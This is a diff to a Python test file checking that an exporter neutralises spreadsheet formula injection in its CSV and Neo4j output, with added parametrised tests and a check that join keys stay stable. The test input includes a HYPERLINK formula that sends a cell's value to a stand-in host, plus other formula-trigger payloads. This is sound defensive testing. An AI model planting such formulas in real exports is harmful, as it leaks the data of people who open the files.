@@ -2,6 +2,7 @@
 
 import csv
 import datetime
+import io
 import json
 import os
 import re
@@ -127,21 +128,50 @@ def test_duckdb_reads_the_rows_and_types_of_the_bank(tmp_path):
     assert types["first_seen"].startswith("TIMESTAMP")
 
 
-def test_no_cell_of_a_flat_file_is_a_formula(tmp_path):
+FORMULA = '=HYPERLINK("https://site.example/?told="&A1;"open")'
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def with_formulas():
     rows = two_campaigns()
     rows["adverts"] = [
-        one | {"url": '=HYPERLINK("x")', "language": "-1+1"} for one in rows["adverts"]
+        one | {"url": FORMULA, "language": "-1+1", "platform_item_id": f"{STARTS[number % 6]}1"}
+        for number, one in enumerate(rows["adverts"])
     ]
     rows["edges"] = [one | {"reason": "@SUM(1)"} for one in rows["edges"]]
-    export(tmp_path / "out", rows, addresses=True)
-    cells = [
+    return rows
+
+
+def cells_of(folder):
+    return [
         cell
-        for path in (tmp_path / "out" / "csv").iterdir()
-        for row in csv.reader(path.read_text().splitlines())
+        for path in folder.iterdir()
+        for row in csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))
         for cell in row
     ]
-    assert any(cell.startswith("'=") for cell in cells)
-    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
+
+
+@pytest.mark.parametrize("format", ["csv", "neo4j"])
+def test_no_cell_of_a_csv_file_is_a_formula(tmp_path, format):
+    export(tmp_path / "out", with_formulas(), addresses=True)
+    cells = cells_of(tmp_path / "out" / format)
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
+    assert {f"'{start}1" for start in STARTS} <= set(cells)
+    assert not [cell for cell in cells if cell.startswith(STARTS)]
+
+
+def test_what_neo4j_joins_by_is_the_same_with_formulas_and_without(tmp_path):
+    export(tmp_path / "plain", formats=["neo4j"], addresses=True)
+    export(tmp_path / "guarded", with_formulas(), formats=["neo4j"], addresses=True)
+    for path in (tmp_path / "plain" / "neo4j").iterdir():
+        plain, guarded = (
+            list(csv.DictReader((tmp_path / one / "neo4j" / path.name).open(newline="")))
+            for one in ("plain", "guarded")
+        )
+        for one, other in zip(plain, guarded, strict=True):
+            keys = [name for name in one if name.startswith(("id:", ":START_ID", ":END_ID"))]
+            assert keys
+            assert [one[name] for name in keys] == [other[name] for name in keys]
 
 
 def test_headers_for_neo4j_state_the_type_of_every_column(tmp_path):
